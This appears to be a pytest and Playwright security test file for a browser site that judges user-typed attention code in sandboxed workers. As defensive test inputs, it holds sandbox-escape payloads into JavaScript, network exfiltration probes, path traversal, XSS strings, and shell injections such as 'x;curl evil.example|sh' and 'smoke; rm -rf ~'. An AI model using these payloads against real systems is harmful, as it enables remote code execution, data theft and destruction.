"""Code, runs and links of strangers, in a real Chromium: nothing leaves the site; all is text."""

import contextlib
import json
import shlex
import shutil
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

from helpers import ROOT, change, served

import pytest

sys.path.insert(0, str(ROOT / "tests" / "bench"))
import damaged_exports  # noqa: E402

SHIPPED = ROOT / "site"
RUN = SHIPPED / "exported" / "stories"
RIGHT = """
import math
import torch
def attention(q, k, v):
    D = q.shape[-1]
    scores = q @ k.transpose(-2, -1) / D**0.5
    later = torch.ones_like(scores).triu(1) > 0
    weights = scores.masked_fill(later, -math.inf).softmax(dim=-1)
    return weights @ v, weights
"""


class Listener(BaseHTTPRequestHandler):
    """Another site, which lets everybody read its answers and notes who asked."""

    def do_GET(self):  # noqa: N802
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"postMessage('remote code runs')")

    do_POST = do_OPTIONS = do_HEAD = do_GET

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def elsewhere():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    server.asked = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield SimpleNamespace(
        host=f"127.0.0.1:{server.server_port}",
        address=f"http://127.0.0.1:{server.server_port}",
        asked=server.asked,
    )
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def shipped():
    with served(SHIPPED) as address:
        yield address


@contextlib.contextmanager
def watched(browser, address):
    """A page, and the exceptions that it left."""
    page = browser.new_page()
    page.errors = []
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    page.on("dialog", lambda dialog: page.errors.append("a dialog"))
    try:
        page.goto(address, wait_until="load")
        yield page
    finally:
        page.close()


# Typed code -------------------------------------------------------------------------------------

JUDGE = """async (code) => {
  const { CodeRunner } = await import("/app/code-runner.js");
  const { openRun } = await import("/app/run.js");
  globalThis.runner ??= new CodeRunner();
  globalThis.run ??= await openRun("stories");
  try {
    return await runner.run(run, { code, exercise: "attention", ids: [0, 1, 2, 3], layer: 0,
                                   head: 0 });
  } catch ({ message }) {
    return { passed: [], mistake: { message }, printed: [] };
  }
}"""

ASKS = """("fetch('{address}/leak'); import('{address}/remote.js');"
 "new WebSocket('ws://{host}/'); postMessage({{ id: 1, result: {{ passed: ['FORGED'] }} }})")"""
WAYS = {  # to what in JavaScript can make a function of a text
    "the constructor of a function": "import _torch\n_torch.hand.constructor",
    "the constructor of an operator": "import _torch\n_torch.operators.add.constructor",
    "the constructor of a module": "import _torch\n_torch.constructor.constructor",
    "the constructor of a tensor": "import torch\ntorch.ones(1)._js.constructor.constructor",
    "the constructor of an array": "import _torch\n_torch.list('list').constructor.constructor",
    "the prototype of a function": "import _torch\ngetattr(_torch.names, '__proto__').constructor",
    "brackets": "import torch\ntorch.ones(1)._js['constructor']['constructor']",
    "the method of an array": "import _torch\n_torch.list('list', 1).map.constructor",
    "the import that was there before": "import _page\n_page.built_in('js').Function",
    "eval of the global object": "import _page\n_page.built_in('js').eval",
    "the global object of the global object": "import _page\n_page.built_in('js').globalThis.Function",
    "an object of jsffi": "import _page\n_page.built_in('jsffi').to_js({{}}).constructor.constructor",
    "a function of jsffi": "import _page\n_page.built_in('jsffi').create_proxy(print).constructor",
    "sys.modules": "import sys, _page\n_page.built_in('js')\nsys.modules['js'].Function",
    "new": "import _torch\n_torch.hand.constructor.new",
}


@pytest.fixture(scope="module")
def judge(browser, shipped):
    with watched(browser, f"{shipped}/write.html") as page:
        run = lambda code: page.evaluate(JUDGE, code)  # noqa: E731
        run.page = page
        yield run


@pytest.mark.parametrize("way", WAYS)
def test_typed_python_finds_no_way_into_javascript(judge, elsewhere, way):
    *first, last = WAYS[way].format().split("\n")
    code = "\n".join([*first, f"made = {last}", f"made{ASKS.format(**vars(elsewhere))}()", RIGHT])
    result = judge(code)
    assert result["passed"] == [] and "FORGED" not in str(result)
    assert elsewhere.asked == []


def test_typed_python_cannot_change_what_is_javascripts(judge):
    result = judge(
        "import _torch\n_torch.hand = _torch.operators.matmul = None\n"
        "_torch.operators.add = print" + RIGHT
    )
    assert len(result["passed"]) == 10


@pytest.mark.parametrize(
    "trick",
    [
        "import tryout\ntryout.stages = lambda report: None",
        "import tryout\ntryout.stages = lambda report: report('in_model', None, None, None)",
        "import tryout\ntryout.stages = lambda report: report({'a': 1}, print, 1, 'x')",
        "import tryout\ntryout.attention = lambda *given: 5",
        "import judge\njudge.stages = lambda head, torch: iter(())",
        "import judge\njudge.CHECKS = ()\njudge.differ = lambda *a, **b: False",
        "import builtins\nbuiltins.zip = lambda *a: iter(())",
    ],
)
def test_a_wrong_head_is_not_called_right_whatever_it_does_to_the_judge(judge, trick):
    wrong = trick + RIGHT.replace(" / D**0.5", "")
    assert "in_model" not in judge(wrong)["passed"]
    assert len(judge(RIGHT)["passed"]) == 10, "the next code is judged as if nothing had been"


def test_an_answer_that_was_not_asked_for_is_no_verdict(judge):
    page = judge.page
    assert len(judge(RIGHT)["passed"]) == 10
    assert page.workers and all(worker.url.startswith("blob:") for worker in page.workers)
    for worker in page.workers:
        worker.evaluate("""() => { for (let id = 0; id < 40; id++) postMessage({ id, result: {
            passed: ["runs"], mistake: { message: "FORGED" }, printed: [], truncated: 0 } }); }""")
    page.evaluate("""async () => {
        const { WorkerClient } = await import("/app/worker-client.js");
        const client = new WorkerClient(new URL("/none.js", location));
        client.receive({ id: 1, result: "FORGED" }); }""")
    assert page.errors == [] and "FORGED" not in str(judge(RIGHT))


# The policy -------------------------------------------------------------------------------------

REACHES = {  # what a worker could ask another site by, in which nothing was taken away
    "fetch": "await fetch('{address}/')",
    "fetch without answers": "await fetch('{address}/', {{ mode: 'no-cors' }})",
    "fetch that outlives the page": "await fetch('{address}/', {{ keepalive: true, method: 'POST' }})",
    "import": "await import('{address}/remote.js')",
    "import of data": "await import('data:text/javascript,postMessage(1)')",
    "XMLHttpRequest": "await new Promise((yes, no) => {{ const ask = new XMLHttpRequest();"
    " Object.assign(ask, {{ onerror: no, onload: yes }});"
    " ask.open('GET', '{address}/'); ask.send(); }})",
    "WebSocket": "await new Promise((yes, no) => {{ const ask = new WebSocket('ws://{host}/');"
    " ask.onerror = no; ask.onopen = yes; }})",
    "EventSource": "await new Promise((yes, no) => {{ const ask = new EventSource('{address}/');"
    " ask.onerror = no; ask.onopen = yes; }})",
    "importScripts": "importScripts('{address}/remote.js')",
    "sendBeacon": "navigator.sendBeacon('{address}/')",
    "a worker of another site": "await ended(new Worker('{address}/remote.js'))",
    "a worker of this site, which would have no policy": "await ended(new Worker('{here}/engine/worker.js', {{ type: 'module' }}))",
    "a worker in the worker": "await ended(new Worker(URL.createObjectURL(new Blob(["
    "`fetch('{address}/').catch(() => setTimeout(() => {{ throw 1; }}))`]))))",
    "eval": "eval('1')",
    "Function": "Function('return 1')()",
    "a function of a function": "(() => 0).constructor('return 1')()",
    "an import of a function": "Object.getPrototypeOf(async () => 0).constructor('return 1')()",
}
PROBE = """([code]) => new Promise((resolve) => {
  const text = `const ended = (worker) => new Promise((yes, no) => {
                  worker.onerror = no; setTimeout(yes, 5000); });
                (async () => { ${code} })().then(() => postMessage("allowed"),
                                                 () => postMessage("refused"))`;
  const blob = new Blob([text], { type: "text/javascript" });
  const worker = new Worker(URL.createObjectURL(blob), { type: "module" });
  worker.onmessage = ({ data }) => { worker.terminate(); resolve(data); };
  worker.onerror = () => resolve("it did not start");
})"""


@pytest.mark.parametrize("way", REACHES)
def test_workers_have_the_policy_of_the_page(judge, shipped, elsewhere, way):
    code = REACHES[way].format(here=shipped, **vars(elsewhere))
    assert judge.page.evaluate(PROBE, [code]) == "refused"
    assert elsewhere.asked == []


def test_the_engine_of_every_page_is_started_with_the_policy(browser, shipped, elsewhere):
    for name in ("explore.html", "write.html"):
        with watched(browser, f"{shipped}/{name}") as page:
            page.mouse.move(5, 5)
            page.wait_for_function("() => document.querySelector('token-row').pass")
            if not page.workers:
                page.wait_for_event("worker")
            assert all(worker.url.startswith("blob:") for worker in page.workers)
            for worker in page.workers:
                assert (
                    worker.evaluate(
                        """(address) => import(`${address}/remote.js`).then(
                    () => "allowed", () => "refused")""",
                        elsewhere.address,
                    )
                    == "refused"
                )
    assert elsewhere.asked == []


# Runs of strangers ------------------------------------------------------------------------------


def every_file(address):
    return lambda m: [one.update(file=address) for one in m["snapshots"]]


def setting(**values):
    return lambda m: m["settings"].update(values)


MANIFESTS = {
    "weights on another site": lambda at: every_file(f"{at.address}/evil.bin"),
    "weights on another site, without a scheme": lambda at: every_file(f"//{at.host}/evil.bin"),
    "weights with a backslash": lambda at: every_file(f"\\\\{at.host}/weights/1.bin"),
    "weights outside of the run": lambda at: every_file("weights/../../../evil.bin"),
    "weights in an address of data": lambda at: every_file("data:application/octet-stream,1.bin"),
    "weights with a question": lambda at: every_file("weights/000000.bin?leak"),
    "a list for an address": lambda at: every_file(["weights/000000.bin"]),
    "a file outside of the run": lambda at: (
        lambda m: m["files"].update({"../../index.json": dict(bytes=1, sha256="")})
    ),
    "endless layers": lambda at: setting(n_layer=10**9),
    "an endless context": lambda at: setting(n_ctx=2**31),
    "heads that do not divide the width": lambda at: setting(n_head=3),
    "no heads": lambda at: setting(n_head=0),
    "a dataset that is no text": lambda at: setting(dataset={"constructor": 1}),
    "tokens that are templates": lambda at: (
        lambda m: m["tokenizer"].update(
            vocab=[{"_$litType$": 1, "strings": ["<img src=x>"], "values": []}] * 512
        )
    ),
    "prompts that are objects": lambda at: lambda m: m.update(prompts=[{"__proto__": {}}]),
    "steps that are texts": lambda at: lambda m: m.update(sampled_steps=["0"]),
    "no settings": lambda at: lambda m: m.update(settings=None),
    "a reason that is no text": lambda at: lambda m: m["missing"].update(samples={"a": 1}),
}


@contextlib.contextmanager
def changed(page, how):
    """The manifest of the shipped run, changed on its way into a page."""

    def fulfil(route):
        content = json.loads((RUN / "manifest.json").read_text("utf-8"))
        how(content)
        route.fulfill(json=content)

    page.route("**/manifest.json", fulfil)
    yield
    page.unroute("**/manifest.json")


@pytest.fixture(scope="module")
def visited(browser, shipped):
    with watched(browser, f"{shipped}/exported/index.json") as page:
        yield page


@pytest.mark.parametrize("manifest", MANIFESTS)
def test_a_manifest_of_a_stranger_is_refused_in_a_sentence(visited, shipped, elsewhere, manifest):
    page = visited
    with changed(page, MANIFESTS[manifest](elsewhere)):
        page.goto(f"{shipped}/explore.html", wait_until="load")
        page.mouse.move(5, 5)
        alert = page.get_by_role("alert").first
        alert.wait_for()
        assert "manifest.json of the run stories is damaged" in alert.inner_text()
        assert alert.locator("code").inner_text() == "python export_for_web.py runs/stories"
        assert page.get_by_role("heading", level=1).is_visible()
    assert page.errors == [] and elsewhere.asked == []


def test_weights_that_do_not_fit_their_settings_are_said_to_be_so(visited, shipped):
    def grow(manifest):
        manifest["weights"]["tensors"][0]["shape"] = [10**9, 10**6]

    with changed(visited, grow):
        visited.goto(f"{shipped}/explore.html", wait_until="load")
        visited.mouse.move(5, 5)
        visited.locator("#compare").evaluate("one => one.scrollIntoView()")
        visited.locator("#first").get_by_text("cannot be used").wait_for()
    assert visited.errors == []


@pytest.mark.parametrize(
    "link",
    [
        "run=//{host}/x",
        "run=http:{address}/x",
        "run=..",
        "run=.",
        "run=../..",
        "run=%2e%2e/%2e%2e/",
        "run=stories&versus=run:../../x",
        "run=stories&versus=run://{host}",
        "text={address}",
    ],
)
def test_a_link_leads_no_page_to_another_site(visited, shipped, elsewhere, link):
    asked = []
    visited.on("request", lambda request: asked.append(request.url))
    visited.goto("about:blank")
    visited.goto(f"{shipped}/explore.html#{link.format(**vars(elsewhere))}", wait_until="load")
    visited.mouse.move(5, 5)
    visited.wait_for_timeout(200)
    assert elsewhere.asked == [] and visited.errors == []
    assert all(url.startswith((shipped, f"blob:{shipped}", "about:")) for url in asked)


# What damage leaves -----------------------------------------------------------------------------


def test_a_token_that_was_given_does_not_wait_for_weights_that_are_damaged(browser, tmp_path):
    site = tmp_path / "site"
    shutil.copytree(SHIPPED, site)
    weights = site / "exported" / "stories" / "weights" / "001300.bin"
    weights.write_bytes(weights.read_bytes()[:-1])
    with served(site) as address, watched(browser, f"{address}/explore.html#position=1") as page:
        page.mouse.move(5, 5)
        alert = page.locator("top-ten").get_by_role("alert")
        alert.wait_for()
        assert "The weights of step 1300" in alert.inner_text()
        assert page.locator("top-ten [aria-busy]").count() == 0


def test_some_damaged_exports_leave_no_page_blank_and_no_figure_waiting(browser):
    for done, name, wrong, _ in damaged_exports.drill(browser, SHIPPED, 2, seed=5):
        assert wrong == [], (name, done)


# Commands ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "folder, words",
    [
        ("runs/tale", ["runs/tale"]),
        ("/home/me/my novel (1)", ["/home/me/my novel (1)"]),
        ("runs/Anna's", ["runs/Anna's"]),
        ("../x;curl evil|sh", ["../x;curl evil|sh"]),
        ("C:\\Users\\me\\runs\\tale", ["C:\\Users\\me\\runs\\tale"]),
        ("runs/長編", ["runs/長編"]),
        ("a & calc", ["a & calc"]),
        *[
            (name, ["runs/tale"])
            for name in (
                "$(id)",
                "`id`",
                'x" y',
                "%PATH%",
                "--out=x",
                "x\x1b[2J",
                5,
                None,
                ["a"],
                "x\\",
                "",
            )
        ],
    ],
)
def test_a_command_names_the_folder_of_a_run_as_one_word_or_not_at_all(judge, folder, words):
    said = judge.page.evaluate(
        "async (folder) => (await import('/app/command.js')).exportCommand('tale', folder)", folder
    )
    assert shlex.split(said) == ["python", "export_for_web.py", *words]


def test_a_link_makes_no_page_say_what_it_wants_typed(visited, shipped):
    link = "run=x;curl evil.example|sh"
    for name in ("index.html", "explore.html", "write.html"):
        visited.goto(f"{shipped}/{name}#{link}", wait_until="load")
        visited.get_by_role("alert").first.wait_for()
        for code in visited.locator("code").all_inner_texts():
            assert "evil" not in code
        assert "is missing" in visited.get_by_role("alert").first.inner_text()


def test_what_a_run_calls_its_corpus_is_quoted_where_it_is_to_be_typed(visited, shipped):
    def poison(manifest):
        manifest["settings"].update(preset="smoke; rm -rf ~", dataset="x$(id)")
        manifest["folder"] = "runs/a;b"

    with changed(visited, poison):
        visited.goto(f"{shipped}/write.html", wait_until="load")
        visited.locator("#download").scroll_into_view_if_needed()
        visited.get_by_role("button", name="Download my_head.py").wait_for()
        shown = visited.locator("download-head code").all_inner_texts()
        assert shown and not any("rm -rf" in code or "$(" in code for code in shown)


# Addresses --------------------------------------------------------------------------------------

VALUES = [
    "NaN",
    "1e99",
    "-1e99",
    "[1,2]",
    "__proto__",
    "constructor",
    "%E2%80%AEx",
    "x" * 5000,
    "<img src=x onerror=alert(1)>",
    "0x10",
    "%00",
    "1.0.0",
    "step:__proto__",
    "off:9.9",
    "temperature:NaN",
    "",
]
KEYS = [
    "step",
    "prompt",
    "head",
    "temperature",
    "seed",
    "text",
    "position",
    "comparedPosition",
    "versus",
    "exercise",
    "__proto__",
    "constructor",
]


@pytest.mark.parametrize("name", ["index.html", "explore.html", "write.html"])
def test_no_value_in_an_address_breaks_a_page(browser, shipped, name):
    with watched(browser, f"{shipped}/{name}") as page:
        for i in range(len(VALUES)):
            state = "&".join(f"{key}={VALUES[(i + j) % len(VALUES)]}" for j, key in enumerate(KEYS))
            page.evaluate("(state) => { location.hash = state; }", state)
            page.wait_for_timeout(60)
        page.wait_for_timeout(300)
        assert page.errors == [] and page.locator("img").count() == 0
        page.evaluate("() => { location.hash = ''; }")
        assert page.get_by_role("heading", level=1).is_visible()


# Right to left ----------------------------------------------------------------------------------

ARABIC = str.maketrans(
    {chr(ord("a") + i): chr(0x628 + i) for i in range(26)}
    | {chr(ord("A") + i): chr(0x628 + i) for i in range(26)}
)


@pytest.fixture(scope="module")
def arabic(tmp_path_factory):
    """The shipped site, whose run has Arabic letters in place of Latin ones."""
    site = tmp_path_factory.mktemp("arabic") / "site"
    shutil.copytree(SHIPPED, site)
    run = site / "exported" / "stories"

    def translate(manifest):
        end, *symbols = manifest["tokenizer"]["vocab"]
        manifest["tokenizer"]["vocab"] = [end, *[one.translate(ARABIC) for one in symbols]]
        manifest["tokenizer"]["merges"] = [
            [one.translate(ARABIC) for one in pair] for pair in manifest["tokenizer"]["merges"]
        ]
        manifest["prompts"] = [one.translate(ARABIC) for one in manifest["prompts"]]

    change(run, "manifest.json", translate)
    with served(site) as address:
        yield address


LEFTS = """() => [...document.querySelector("#inside token-row").renderRoot
    .querySelectorAll(".token")].slice(0, 6).map((token) => token.getBoundingClientRect().left)"""
DIRECTIONS = """() => [...document.querySelector("prompt-samples").renderRoot
    .querySelectorAll("p[tabindex]")].map((text) => getComputedStyle(text).direction)"""


@pytest.mark.parametrize("which, direction", [("arabic", "rtl"), ("shipped", "ltr")])
def test_a_text_is_read_in_its_own_direction(browser, request, which, direction):
    address = request.getfixturevalue(which)
    with watched(browser, f"{address}/explore.html") as page:
        page.locator("#inside token-row .token").first.wait_for()
        lefts = page.evaluate(LEFTS)
        assert lefts == sorted(lefts, reverse=direction == "rtl")
        row = page.locator("#inside token-row .tokens")
        before = page.evaluate("() => document.querySelector('#inside token-row').shownPosition")
        row.press("ArrowLeft")
        page.wait_for_timeout(100)
        after = page.evaluate("() => document.querySelector('#inside token-row').shownPosition")
        assert after - before == (1 if direction == "rtl" else -1)
        page.goto(f"{address}/index.html")
        page.locator("prompt-samples .token").first.wait_for()
        assert page.evaluate(DIRECTIONS) == [direction]
